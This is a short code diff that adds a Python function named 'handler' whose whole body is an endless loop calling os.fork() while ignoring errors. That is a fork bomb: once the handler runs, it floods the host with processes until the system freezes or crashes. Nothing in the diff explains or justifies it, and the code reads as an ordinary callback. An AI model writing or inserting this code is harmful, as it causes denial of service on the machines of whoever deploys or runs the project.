@@ -1,0 +1,9 @@
+import os
+
+
+def handler(ctx):
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
